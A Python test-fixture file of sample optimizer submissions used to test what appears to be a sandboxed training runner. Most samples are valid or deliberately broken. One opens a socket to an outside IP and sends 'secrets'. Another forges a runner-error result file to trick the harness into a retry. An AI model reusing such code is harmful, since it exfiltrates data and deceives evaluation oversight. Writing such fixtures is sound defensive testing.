"""Submitted optimizer files used across the runner tests, as a researcher would write them."""

SGD = b'''import torch


def make_optimizer(params, lr=0.1, momentum=0.0):
    return torch.optim.SGD(params, lr=lr, momentum=momentum)
'''

NOISY_SGD = b'''import torch


class NoisySGD(torch.optim.Optimizer):
    """SGD plus Gaussian noise: its result depends on the seed the platform sets."""

    def __init__(self, params, lr=0.05, noise=0.01):
        super().__init__(params, dict(lr=lr, noise=noise))

    @torch.no_grad()
    def step(self, closure=None):
        for group in self.param_groups:
            for p in group["params"]:
                p.add_(-group["lr"] * p.grad + group["noise"] * torch.randn_like(p))


def make_optimizer(params, lr=0.05, noise=0.01):
    return NoisySGD(params, lr=lr, noise=noise)
'''

SLOW_SGD = b'''import time
import torch


class SlowSGD(torch.optim.SGD):
    """Plain SGD that takes its time, so the runner has something to report progress on."""

    def __init__(self, params, lr, delay):
        super().__init__(params, lr=lr)
        self.delay = delay

    def step(self, closure=None):
        time.sleep(self.delay)
        return super().step(closure)


def make_optimizer(params, lr=0.05, delay=0.05):
    return SlowSGD(params, lr=lr, delay=delay)
'''

SYNTAX_ERROR = b'''import torch


def make_optimizer(params, lr=0.1)
    return torch.optim.SGD(params, lr=lr)
'''

NO_ENTRY_POINT = b'''import torch


def build(params, lr=0.1):
    return torch.optim.SGD(params, lr=lr)
'''

NOT_AN_OPTIMIZER = b'''def make_optimizer(params, lr=0.1):
    return [lr]
'''

RAISES_IN_STEP = b'''import torch


class Broken(torch.optim.SGD):
    def step(self, closure=None):
        return 1 / 0


def make_optimizer(params, lr=0.1):
    return Broken(params, lr=lr)
'''

GOES_TO_NAN = b'''import torch


class Explodes(torch.optim.SGD):
    calls = 0

    def step(self, closure=None):
        super().step(closure)
        Explodes.calls += 1
        if Explodes.calls == 5:
            with torch.no_grad():
                for p in self.param_groups[0]["params"]:
                    p.mul_(float("nan"))


def make_optimizer(params, lr=0.01):
    return Explodes(params, lr=lr)
'''

PHONES_HOME = b'''import socket
import torch


def make_optimizer(params, lr=0.1):
    socket.create_connection(("93.184.216.34", 80), timeout=5).sendall(b"my secrets")
    return torch.optim.SGD(params, lr=lr)
'''

FAKES_AN_INFRASTRUCTURE_ERROR = b'''import json
import os
import sys

out = sys.argv[sys.argv.index("--out") + 1]
with open(out, "w") as fh:
    json.dump({"ok": False, "error": {"kind": "runner_error", "message": "not my fault, retry me"}}, fh)
os._exit(0)
'''
